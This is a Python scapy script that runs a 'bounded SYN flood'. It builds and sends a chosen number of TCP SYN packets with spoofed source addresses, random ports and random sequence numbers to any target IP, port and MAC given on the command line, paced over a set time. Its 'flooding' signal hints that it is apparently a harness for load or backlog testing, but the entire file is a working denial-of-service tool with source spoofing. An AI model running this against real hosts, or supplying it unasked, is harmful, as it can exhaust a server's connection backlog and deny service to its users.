#!/usr/bin/python3
"""A bounded SYN flood: COUNT SYNs to DST_IP:PORT from SOURCES spoofed
on-link senders (192.0.2.100 and up) with random ports and sequence numbers,
spread evenly over SECONDS (at most). Nobody answers the SYN-ACKs: each
would hold a backlog slot for a minute. Prints "flooding" once the frames
are built and sending starts (so a client can start then), and a summary.

usage: syn_flood.py IFACE DST_MAC DST_IP PORT COUNT SOURCES SECONDS
"""
import random
import sys
import time

from scapy.all import IP, TCP, Ether, conf  # noqa: E402

iface, dst_mac, dst_ip, port = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
count, sources, seconds = int(sys.argv[5]), int(sys.argv[6]), float(sys.argv[7])
conf.verb = 0
rng = random.Random(7)
template = Ether(dst=dst_mac) / IP(src="192.0.2.100", dst=dst_ip) / TCP(
    dport=port, flags="S", options=[("MSS", 1460), ("SAckOK", b""), ("Timestamp", (1, 0)), ("WScale", 7)])
frames = []
for i in range(count):
    template[IP].src = f"192.0.2.{100 + i % sources}"
    template[TCP].sport = rng.randint(1024, 65535)
    template[TCP].seq = rng.getrandbits(32)
    frames.append(bytes(template))
sock = conf.L2socket(iface=iface)
print("flooding", flush=True)
start = time.monotonic()
batch = 100
for n in range(0, count, batch):
    for f in frames[n:n + batch]:
        sock.send(f)
    # Even pacing: batch k goes out at k * SECONDS / batches.
    due = start + (n + batch) * seconds / count
    delay = due - time.monotonic()
    if delay > 0:
        time.sleep(delay)
sock.close()
print(f"sent {count} spoofed SYNs from {sources} sources in {time.monotonic() - start:.1f} s")
